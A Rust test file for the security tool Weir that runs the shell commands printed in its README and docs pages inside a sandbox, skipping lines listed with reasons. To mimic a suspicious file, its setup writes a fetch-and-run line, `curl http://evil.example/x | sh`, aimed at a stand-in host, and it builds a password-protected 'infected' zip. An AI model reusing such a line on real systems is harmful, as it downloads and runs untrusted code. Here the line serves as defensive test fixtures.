//! Runs the commands in README and guide as they are printed, page by page, with a shell in a small world of its own.
//!
//! The world is a root that bubblewrap makes: programs of this machine, an empty network, and a Weir that `weir up --demo` started, as
//! `make run` does. Everything that a page mentions (a log, a suspicious file) is prepared. `NOT_HERE` lists the lines that cannot run
//! there, with the reason; that their flags exist is checked all the same (crates/weir/src/guide.rs).

use crate::world::World;
use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

/// The beginnings of lines that are not run, and why.
const NOT_HERE: &[(&str, &str)] = &[
    ("make ", "builds; the test looks whether the Makefile has it"),
    ("cargo build", "builds"),
    ("cp weir-archive.gpg", "tools/try-release installs from the folder of a release"),
    ("echo \"deb [signed-by", "tools/try-release"),
    ("apt-get ", "tools/try-release"),
    ("gpgv ", "tools/release does it with what it made"),
    ("sha256sum --quiet", "tools/release"),
    ("useradd ", "tools/try-deb has the service of the package"),
    ("install -m 755 target/dist/weir", "tools/try-deb"),
    ("install -m 644 packaging/weir.service", "tools/try-deb"),
    ("install -D -m 644 packaging/weir-lab.conf", "tools/try-deb"),
    ("install -d -o weir", "tools/try-deb"),
    ("systemctl ", "tools/try-deb has a systemd"),
    ("journalctl ", "tools/try-deb has a systemd"),
    ("cat /var/lib/weir/first-password", "tools/try-deb has the service of the package"),
    ("weir hitserver", "it stays, at an address of another machine; crates/weir-web tests the exchange"),
    ("weir lab init", "a lab of several machines: tests/lab_network.rs"),
    ("weir up", "the world has one"),
    ("weir lab invite", "tests/lab_network.rs"),
    ("weir lab join", "tests/lab_network.rs"),
    ("weir lab submit --tlp red", "needs a VM; tests/lab_choices.rs"),
    ("weir console end-session", "nobody is logged in; tests/console.rs"),
    ("weir quickstart web --host www.example.org          #", "web-site.md has the same, and is tried"),
    ("weir quickstart relay", "tools/try-release does it beside a real Postfix, and sends a mail through it"),
    ("swaks --server mail.example.org:587", "tools/try-release"),
    ("weir quickstart mx", "tools/try-release does it with a real Postfix and clamd, and sends a mail through it"),
    ("swaks --server mx.example.org", "tools/try-release"),
    ("weir demo  ", "minutes of attacks: only with WEIR_GUIDE=full, as in tools/soak"),
    ("weir lab pcap", "the sample did not run in a VM here; tests/lab_vm.rs"),
];

/// A block of shell commands, and the page on which it is printed.
struct Block {
    page: String,
    line: usize,
    text: String,
}

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn pages() -> Vec<(String, String)> {
    let docs = fs::read_dir(root().join("docs")).unwrap().flatten().map(|entry| entry.path());
    let mut files: Vec<PathBuf> = docs.filter(|path| path.extension().is_some_and(|kind| kind == "md")).collect();
    files.push(root().join("README.md"));
    files.sort();
    let named = |path: &PathBuf| path.file_name().unwrap().to_string_lossy().into_owned();
    files.iter().map(|path| (named(path), fs::read_to_string(path).unwrap())).collect()
}

/// All fenced blocks with their labels.
fn blocks() -> Vec<(String, Block)> {
    let mut found = Vec::new();
    for (page, text) in pages() {
        let mut open: Option<(String, Block)> = None;
        // A block in a list is indented as far as its fence.
        let mut indent = String::new();
        for (number, line) in text.lines().enumerate() {
            match (line.trim_start().strip_prefix("```"), &mut open) {
                (Some(_), Some(_)) => found.extend(open.take()),
                (Some(label), None) => {
                    indent = line.chars().take_while(|letter| *letter == ' ').collect();
                    open =
                        Some((label.to_owned(), Block { page: page.clone(), line: number + 1, text: String::new() }));
                }
                (None, Some((_, block))) => {
                    block.text.push_str(line.strip_prefix(&indent).unwrap_or(line));
                    block.text.push('\n');
                }
                (None, None) => {}
            }
        }
        assert!(open.is_none(), "{page}: a block does not end");
    }
    found
}

fn shell_blocks() -> Vec<Block> {
    blocks().into_iter().filter(|(label, _)| label == "sh").map(|(_, block)| block).collect()
}

#[test]
fn every_block_says_what_it_is_in() {
    let known: BTreeSet<&str> = BTreeSet::from([
        "sh",
        "text",
        "toml",
        "json",
        "yaml",
        "rust",
        "main.cf",
        "master.cf",
        "postfix",
        "dovecot",
        "nginx",
        "caddy",
        "haproxy",
        "lua",
        "nft",
        "nats",
    ]);
    for (label, block) in blocks() {
        assert!(known.contains(label.as_str()), "{}:{}: {label:?} is no language that we know", block.page, block.line);
        let hidden =
            label != "sh" && block.text.lines().any(|line| line.starts_with("weir ") || line.starts_with("$ "));
        assert!(!hidden, "{}:{}: commands in a block of {label}", block.page, block.line);
    }
}

#[test]
fn every_shell_block_is_one_that_a_shell_reads() {
    let makefile = fs::read_to_string(root().join("Makefile")).unwrap();
    for block in shell_blocks() {
        let read = Command::new("bash").args(["-n", "-c", &block.text]).output().unwrap();
        let said = String::from_utf8_lossy(&read.stderr);
        assert!(read.status.success(), "{}:{}: {said}", block.page, block.line);
        let made =
            block.text.lines().filter_map(|line| line.strip_prefix("make ")).filter_map(|rest| rest.split(' ').next());
        for target in made {
            assert!(makefile.contains(&format!("\n{target}:")), "{}:{}: make {target}", block.page, block.line);
        }
    }
}

/// Prepares everything that the pages mention. `weir` asks for passwords on a terminal; there is none here, so they are piped in.
const PROPS: &str = r#"
set -e
mkdir -p ~/Mail ~/Maildir/.Sent/cur ~/Maildir/.Sent/new ~/Maildir/.Sent/tmp /var/vmail/example.org/ann/Maildir/.Sent/{cur,new,tmp} /var/backups/weir /var/log/nginx
mkdir -p ~/Maildir/{cur,new,tmp} /var/vmail/example.org/ann/Maildir/{cur,new,tmp} /srv/weir-plugins/calls
printf 'From ann@example.org Mon Nov 16 10:00:00 2026\nFrom: ann@example.org\nTo: bob@example.net\nDate: Mon, 16 Nov 2026 10:00:00 +0000\nSubject: a\n\nHello.\n' > ~/Mail/sent
tail -n +2 ~/Mail/sent > ~/Maildir/.Sent/cur/1.a.b:2,S
cp ~/Maildir/.Sent/cur/1.a.b:2,S /var/vmail/example.org/ann/Maildir/.Sent/cur/
cp /fixtures/mail.log /var/log/mail.log
gzip -c /var/log/mail.log > /var/log/mail.log.2.gz
tail -n +2 ~/Mail/sent > suspicious.eml
printf '#!/bin/sh\ncurl http://evil.example/x | sh\n' | tee suspicious.sh suspicious.bin setup.exe > sample.sh
echo 'rule of_ours { strings: $a = "a string of ours" condition: $a }' > FILE
cp /fixtures/infected.zip handed-round.zip
for n in $(seq 200); do printf '192.0.2.%d - - [16/Nov/2026:10:%02d:00 +0000] "GET /%d HTTP/1.1" 200 512 "-" "Mozilla"\n' $((n % 50)) $((n % 60)) $n; done > /var/log/nginx/access.log
"#;

const STAGE: &str = r#"
cd ~ && export WEIR_DATA=$HOME/weir-data body='{}' secret=x
. /guide/props.sh
weir up --demo > up.log 2>&1 & up=$!
for _ in $(seq 1200); do grep -q 'demo outbreak' up.log && command weir ready >/dev/null 2>&1 && break; kill -0 $up || { cat up.log; exit 9; }; sleep 0.1; done
password=$(sed -n 's/.*--password \([^ ]*\).*/\1/p' up.log | head -1)
weir() {
  case "$1 $2 $*" in
    *--generate*|*--no-password*|*--password-stdin*) command weir "$@" ;;
    "user add "*|"console add "*|"console passwd "*) echo 'a long password, typed' | command weir "$@" --password-stdin ;;
    *) command weir "$@" ;;
  esac
}
export -f weir
hash=$(sha256sum suspicious.bin | cut -d' ' -f1)
failed=0
for block in /guide/blocks/*.sh; do
  id=$(command weir find --login demo --json 2>/dev/null | python3 -c 'import json, sys; print(json.load(sys.stdin)["messages"][0]["message"])' 2>/dev/null || true)
  token=$(cat token 2>/dev/null || true)
  sed "s/PASSWORD/$password/; s/\bID\b/$id/; s/SAMPLE/1/; s/--sample 34/--sample 1/; s/rules remove 7/rules remove 1/; s/\bHASH\b/$hash/; s/weir_…/$token/" "$block" > now.sh
  if timeout 300 bash -e -o pipefail now.sh > said 2>&1 < /dev/null; then echo "ran $(basename "$block")"
  else failed=1; printf 'FAILED %s\n' "$(head -1 "$block")"; cat now.sh; echo '-- it said:'; tail -30 said; fi
  # A token is printed once; the next line of the page uses it.
  sed -n 's/.*\(weir_[A-Za-z0-9_-]\{20,\}\).*/\1/p' said | head -1 | grep . > token.new && mv token.new token || true
done
# Whatever runs still ends with this world.
exit $failed
"#;

#[test]
fn the_commands_of_readme_and_guide_run_as_they_are_printed() {
    let place = tempfile::tempdir().unwrap();
    let folder = |name: &str| {
        let path = place.path().join(name);
        fs::create_dir_all(&path).unwrap();
        path
    };
    let (guide, home, bin, fixtures) = (folder("guide"), folder("home"), folder("bin"), folder("fixtures"));
    fs::create_dir(guide.join("blocks")).unwrap();
    let (mut used, mut run) = (BTreeSet::new(), 0);
    for (number, block) in shell_blocks().iter().enumerate().filter(|(_, block)| !block.text.starts_with("#!")) {
        let Some(text) = what_runs(&block.text, &mut used) else { continue };
        let text = format!("# {}:{}\n{text}", block.page, block.line);
        fs::write(guide.join(format!("blocks/{:02}-{number:03}-{}.sh", rank(&block.page), block.page)), text).unwrap();
        run += 1;
    }
    let unused: Vec<_> = NOT_HERE.iter().filter(|(line, _)| !used.contains(line)).collect();
    assert!(unused.is_empty(), "no page has these lines any more: {unused:?}");
    assert!(run >= 20, "{run} blocks");
    let mut props = PROPS.to_owned();
    plugin_of_the_page(&mut props);
    fs::write(guide.join("props.sh"), props).unwrap();
    fs::write(guide.join("stage.sh"), STAGE).unwrap();
    fixtures_in(&fixtures);
    // The program that upgrade.md installs and the one that runs are the same here, because there is only one.
    let weir = Path::new(env!("CARGO_BIN_EXE_weir"));
    for place in [bin.join("weir"), home.join("weir")] {
        fs::hard_link(weir, &place).or_else(|_| fs::copy(weir, &place).map(drop)).unwrap();
    }
    let mut world = World::new();
    world.bind(&home, "/home/you").bind(&bin, "/usr/local/bin").read(&guide, "/guide").read(&fixtures, "/fixtures");
    let output = world.run("bash /guide/stage.sh");
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}\n{errors}");
    assert_eq!(said.lines().filter(|line| line.starts_with("ran ")).count(), run, "{said}\n{errors}");
}

/// The order of the pages: those whose commands change what other pages need come later.
fn rank(page: &str) -> usize {
    ["web-site.md", "tour.md", "lab.md"].iter().position(|first| *first == page).unwrap_or(match page {
        "upgrade.md" => 99,
        _ => 50,
    })
}

/// The lines that can run here; none if there are none. Adds to `used` the exceptions that were needed.
fn what_runs(text: &str, used: &mut BTreeSet<&'static str>) -> Option<String> {
    let mut out = String::new();
    let full = std::env::var("WEIR_GUIDE").is_ok_and(|value| value == "full");
    for line in text.replace("\\\n", " ").lines() {
        match NOT_HERE.iter().find(|(begins, _)| line.starts_with(begins)) {
            Some((begins, why)) => {
                used.insert(begins);
                if full && why.contains("WEIR_GUIDE=full") {
                    writeln!(out, "{line}").unwrap();
                }
            }
            None => writeln!(out, "{line}").unwrap(),
        }
    }
    out.lines().any(|line| !line.is_empty() && !line.starts_with('#')).then_some(out)
}

/// docs/plugins.md contains a plugin in two blocks. What the page says about it is tried with exactly these files.
fn plugin_of_the_page(props: &mut String) {
    let of_page: Vec<(String, Block)> = blocks().into_iter().filter(|(_, block)| block.page == "plugins.md").collect();
    let first = |label: &str| of_page.iter().find(|(of, _)| of == label).map(|(_, block)| block.text.clone()).unwrap();
    for (name, text) in [("plugin.toml", first("toml")), ("run", first("sh"))] {
        write!(props, "cat > /srv/weir-plugins/calls/{name} <<'END OF FILE'\n{text}END OF FILE\n").unwrap();
    }
    props.push_str("chmod 755 /srv/weir-plugins/calls/run\n");
}

fn fixtures_in(folder: &Path) {
    let log = "2026-11-16T10:00:00.000000+00:00 mail postfix/smtpd[1]: 4F2A81C0D3: client=pc[192.0.2.7], sasl_method=PLAIN, sasl_username=ann@example.org\n\
               2026-11-16T10:00:00.100000+00:00 mail postfix/qmgr[2]: 4F2A81C0D3: from=<ann@example.org>, size=400, nrcpt=1 (queue active)\n\
               2026-11-16T10:00:01.000000+00:00 mail postfix/smtp[3]: 4F2A81C0D3: to=<bob@example.net>, relay=mx[192.0.2.9]:25, delay=1, dsn=2.0.0, status=sent (250 ok)\n";
    fs::write(folder.join("mail.log"), log).unwrap();
    let inner = folder.join("inner.sh");
    fs::write(&inner, "#!/bin/sh\nid\n").unwrap();
    let packed =
        Command::new("7zz").args(["a", "-tzip", "-pinfected"]).arg(folder.join("infected.zip")).arg(&inner).output();
    assert!(packed.expect("7zz is needed: run `make setup`").status.success());
}
